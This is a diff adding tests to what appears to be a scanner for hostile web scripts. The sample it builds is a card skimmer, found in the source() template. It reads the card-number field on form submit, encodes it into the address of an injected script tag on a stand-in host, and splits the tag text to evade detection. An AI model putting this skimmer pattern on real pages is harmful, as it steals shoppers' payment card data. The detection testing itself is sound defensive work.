@@ -96,6 +96,32 @@ describe('card values posted plainly to a foreign host', () => {
   })
 })
 
+describe('markup built at run time and handed to the parser', () => {
+  const reason = 'names card fields and can send or load something'
+  const source = (write: string) => `var ns = { host: '//cdn.assets-edge.example/s/' }
+    ns.tag = function (d) { return '<scr' + 'ipt src="' + ns.host + btoa(JSON.stringify(d)) + '.js"></scr' + 'ipt>' }
+    ns.put = function (html) { ${write} }
+    document.addEventListener('submit', function (e) {
+      var n = e.target.querySelector('[name="payment[cc_number]"]').value
+      ns.put(ns.tag({ n: n }))
+    }, true)`
+  it.each([
+    ['document.write', 'document.write(html)'],
+    [
+      'a Range fragment',
+      'document.head.appendChild(document.createRange().createContextualFragment(html))',
+    ],
+    ['insertAdjacentHTML', "document.body.insertAdjacentHTML('beforeend', html)"],
+  ])('%s of a tag that fetches sends the file to the chamber', (_, write) => {
+    expect(analyzeScript(source(write)).triage ?? []).toContain(reason)
+  })
+  it('markup that fetches nothing does not', () => {
+    const plain = source('document.write(html)').replace("'<scr' + 'ipt src=\"'", "'<p title=\"'")
+    expect(plain).not.toContain('ipt src')
+    expect(analyzeScript(plain).triage ?? []).not.toContain(reason)
+  })
+})
+
 describe('operators routed through tables of one-line wrappers', () => {
   const ops = ['+', '-', '*', '/', '%', '===', '!==', '<', '>', '|', '&', '^']
   const wrapper = (op: string, i: number): string => `w${i}: function (a, b) { return a ${op} b }`
